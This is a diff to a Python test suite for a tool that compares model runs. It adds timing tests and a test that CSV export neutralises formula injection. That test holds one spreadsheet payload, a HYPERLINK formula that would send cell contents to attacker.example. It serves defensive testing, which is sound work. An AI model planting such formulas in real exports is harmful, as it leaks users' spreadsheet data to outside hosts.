@@ -7,6 +7,7 @@ import csv
 import io
 import json
 import threading
+import time
 from collections.abc import Callable, Iterator
 from typing import Any
 
@@ -383,6 +384,25 @@ def test_a_comparison_runs_every_variant_and_records_timings() -> None:
     assert analysis.similarity_to_first[2] == 1.0 and analysis.similarity_to_first[1] < 1.0
 
 
+def test_a_one_chunk_answer_reads_tokens_per_second_over_the_whole_run() -> None:
+    """A tool-constrained answer from the gateway arrives in one chunk, after the whole generation: the time
+    from first token to the end is then nearly zero. Compare read 532,283 tok/s from such answers; it now
+    times runs as `runner.stream` does (end to end when everything arrived at once)."""
+
+    class OneChunk(httpx.SyncByteStream):
+        def __iter__(self) -> Iterator[bytes]:
+            time.sleep(0.3)  # the model generates; nothing streams meanwhile
+            events = [chunk("forty tokens of a tool call"), chunk(finish="stop")]
+            events.append({"id": "c1", "model": "m", "choices": [], "usage": {"prompt_tokens": 4, "completion_tokens": 40}})
+            yield ("".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n").encode()
+
+    comparison = run_comparison(variants(BODY, seeds="1"), clients(lambda body: streamed(OneChunk())))
+    (r,) = comparison.results
+    assert r.status == "done" and r.usage is not None and r.usage.output_tokens == 40
+    assert r.total_s is not None and r.total_s >= 0.3
+    assert r.tokens_per_s is not None and r.tokens_per_s <= 40 / 0.3
+
+
 def test_a_failing_run_keeps_its_error_while_the_others_complete() -> None:
     def handler(body: dict[str, Any]) -> httpx.Response:
         if body["seed"] == 2:
@@ -521,7 +541,7 @@ def test_csv_export() -> None:
         return streamed(sse(['He said, "hi"', "\nbye"] if body["seed"] == 1 else ["other"]))
 
     comparison = run_comparison(variants(BODY, seeds="1-3"), clients(handler))
-    rows = list(csv.reader(io.StringIO(to_csv(comparison))))
+    rows = list(csv.reader(io.StringIO(to_csv(comparison).decode("utf-8"))))
     assert rows[0] == [
         "label",
         "setting",
@@ -546,6 +566,16 @@ def test_csv_export() -> None:
     assert first["tokens"] == "2" and first["group"] == "1" and first["similarity_to_first"] == "1.000"
     assert second["group"] == "2" and float(second["similarity_to_first"]) < 1 and second["diverges_at_token"] == "1"
     assert third["status"] == "error" and "nope" in third["error"] and third["group"] == "" and third["tokens"] == ""
+
+
+def test_csv_export_keeps_untrusted_text_from_running_as_a_formula() -> None:
+    """A model's answer (or an error, or a label) that a spreadsheet would run as a formula is written as text."""
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    comparison = run_comparison(variants(BODY, seeds="1"), clients(lambda body: streamed(sse([evil]))))
+    rows = list(csv.reader(io.StringIO(to_csv(comparison).decode("utf-8"))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["text"] == "'" + evil
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in rows for cell in line)
 
 
 def test_a_background_job_can_be_polled_and_cancelled() -> None:
